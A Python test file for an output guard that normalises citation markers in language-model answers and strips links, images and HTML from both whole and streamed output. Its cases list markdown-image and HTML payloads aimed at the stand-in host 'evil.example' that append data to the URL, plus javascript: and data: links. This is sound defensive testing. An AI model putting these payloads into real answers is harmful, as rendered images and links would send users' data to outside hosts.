"""Model output may show text and nothing else; the stream shows what the finished answer shows."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chains.guard import LINK_REMOVED, SafeStream, neutralise

DOCUMENT = "Our help page is https://help.example/leave and the portal www.portal.example."


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Thirty days [1].", "Thirty days [1]."),
        ("Thirty days [1][2].", "Thirty days [1][2]."),
        ("Thirty days [1, 2].", "Thirty days [1][2]."),
        ("Thirty days [1,3].", "Thirty days [1][3]."),
        ("Thirty days [1-3].", "Thirty days [1][2][3]."),
        ("Thirty days [1–2].", "Thirty days [1][2]."),
        ("Thirty days [1 and 3].", "Thirty days [1][3]."),
        ("Thirty days [3-1].", "Thirty days [3][1]."),
        ("Thirty days [2, 2].", "Thirty days [2]."),
        ("Thirty days 【2】.", "Thirty days [2]."),
        ("Thirty days [^2].", "Thirty days [2]."),
        ("Thirty days [Passage 2].", "Thirty days [2]."),
        ("Thirty days [sources 1, 2].", "Thirty days [1][2]."),
        ("One past the end [4].", "One past the end [?]."),
        ("Before the start [0].", "Before the start [?]."),
        ("Far off [99].", "Far off [?]."),
        ("Half known [3, 4].", "Half known [3][?]."),
        ("Past in a range [2-5].", "Past in a range [2][3][?]."),
        ("The year [2019] stays.", "The year [2019] stays."),
        ("A word [sic] stays.", "A word [sic] stays."),
        ("Code `x[7]` stays.", "Code `x[7]` stays."),
        ("```\nx[7]\n```\nand [7]", "```\nx[7]\n```\nand [?]"),
        ("An unclosed [1", "An unclosed [1"),
        ("A word NOT_IN_DOCUMENTS.", "A word Not in your documents."),
    ],
)
def test_markers_stay_within_what_was_given(written: str, shown: str) -> None:
    assert neutralise(written, sources=3) == shown


def test_without_sources_brackets_are_text() -> None:
    assert neutralise("x [7] and [1, 2]", sources=None) == "x [7] and [1, 2]"


@pytest.mark.parametrize(
    "written",
    [
        "![x](https://evil.example/?q=data)",
        "![x]( <https://evil.example/?q=data> )",
        "![](//evil.example/?q=data)",
        "![a](/api/fetch?url=data)",
        "![a][b]\n\n[b]: https://evil.example/p.png",
        "[b]:\nhttps://evil.example/p.png\n\n![b]",
        "[b]: /collect?q=data\n\n![b]",
        "[b]: //evil.example/?q=data\n\n![x][b]",
        "[1]: https://evil.example/\n\nThirty days [1].",
        "[1]:/relative\n\nThirty days [1].",
        "> [1]: //evil.example\n\nThirty days [1].",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,AAAA)",
        "[![x](https://evil.example/a)](https://evil.example/b)",
        "[a [b [c](https://evil.example)](x)](y)",
        "[1](https://evil.example)",
        "[1, 2](/relative)",
        "[7](/relative)",
        "<https://evil.example/?q=data>",
        "<img src=https://evil.example/x>",
        "<IMG\nSRC='//evil.example/x'>",
        "<a href='https://evil.example'>x</a>",
        "</div><iframe src=//evil.example>",
        "<!-- --><style>@import '//evil.example'</style>",
        "<?xml-stylesheet href='//evil.example'?>",
        "https://evil.example/?q=data",
        "HTTPS://EVIL.example/?q=data",
        "www.evil.example/?q=data",
        "https://help.example/leave?q=data",
        "https://help.example/leave/data",
        "`![x](https://evil.example)` ` ![x](https://evil.example)",
        "\\![x]\\(https://evil.example) [x](https://evil.example)",
        "![x\\](https://evil.example)](https://evil.example)",
    ],
)
def test_nothing_that_loads_or_links_passes(written: str) -> None:
    assert links_of(written) != [] or "\\" in written or "`" in written, "the case tries nothing"
    assert links_of(neutralise(written, sources=3, allowed_text=DOCUMENT)) == []


def test_an_address_of_the_documents_stays_a_word() -> None:
    written = "See https://help.example/leave, or www.portal.example."
    assert neutralise(written, sources=3, allowed_text=DOCUMENT) == written
    assert LINK_REMOVED in neutralise(written, sources=3, allowed_text="")


PIECES = st.sampled_from(
    [
        *"[]()<>!:`*_ \n\\/.#h1w,-",
        "![x](",
        "](",
        "]:",
        "https://evil.example/a",
        "http",
        "://",
        "/x",
        "[x]",
        "[x]: //y\n\n",
        "www.",
        "[1]",
        "[2, 3]",
        "[1-",
        "[7]",
        "<img src=",
        "<a",
        "NOT_IN_",
        "NOT_IN_DOCUMENTS",
        "```\n",
        "word",
        " and ",
        "【1】",
        "passages ",
    ]
)


def links_of(text: str) -> list[str]:
    """What a CommonMark parser with GFM's bare addresses and with HTML on would load or link."""
    parser = MarkdownIt("commonmark", {"html": True})
    parser.validateLink = lambda url: True  # type: ignore[method-assign]  # other renderers refuse no scheme
    found: list[str] = []
    for token in parser.parse(text):
        for part in [token, *(token.children or [])]:
            if part.type in ("image", "link_open", "html_inline", "html_block"):
                found.append(f"{part.type} {part.attrs} {part.content}")
    without_known = re.sub(r"(?:https://help\.example/leave|www\.portal\.example)(?![^\s,.])", "", text)
    return found + re.findall(r"(?i)(?:https?://|www\.)[^\s<>\[\]`.,;:!?)}'\"*_]\S*", without_known)


@given(st.lists(PIECES, max_size=25))
def test_no_mixture_of_fragments_makes_a_link(pieces: list[str]) -> None:
    assert links_of(neutralise("".join(pieces), sources=3)) == []


@given(st.lists(PIECES, max_size=25), st.data())
def test_the_stream_adds_up_to_the_whole_wherever_it_is_cut(pieces: list[str], data: st.DataObject) -> None:
    text = "".join(pieces)
    guard = SafeStream(sources=3, allowed_text=DOCUMENT)
    shown, rest = "", text
    while rest:
        cut = data.draw(st.integers(1, min(6, len(rest))))
        shown += guard.feed(rest[:cut])
        rest = rest[cut:]
    shown += guard.close()
    assert shown == neutralise(text, sources=3, allowed_text=DOCUMENT) == guard.text


def test_an_angle_bracket_waits_for_the_address_behind_it() -> None:
    guard = SafeStream(sources=3)
    shown = [guard.feed(piece) for piece in ("<", "https", "://evil.example/a", " ")]
    assert "".join([*shown, guard.close()]) == neutralise("<https://evil.example/a ", sources=3)


@given(st.text(max_size=80))
def test_any_text_streamed_by_character_is_the_text_whole(text: str) -> None:
    guard = SafeStream(sources=3)
    assert "".join([*map(guard.feed, text), guard.close()]) == neutralise(text, sources=3)


def test_plain_prose_is_shown_without_delay() -> None:
    guard = SafeStream(sources=3)
    assert [guard.feed(piece) for piece in ("Employees ", "get ", "30 ", "days ")] == [
        "Employees ",
        "get ",
        "30 ",
        "days ",
    ]


def test_a_long_answer_costs_in_proportion_to_its_length() -> None:
    guard = SafeStream(sources=5)
    started = time.process_time()
    for n in range(4000):
        guard.feed("word [1] " if n % 20 == 0 else "word ")
    assert time.process_time() - started < 2.0, "took 45 s when every piece looked at the whole text again"
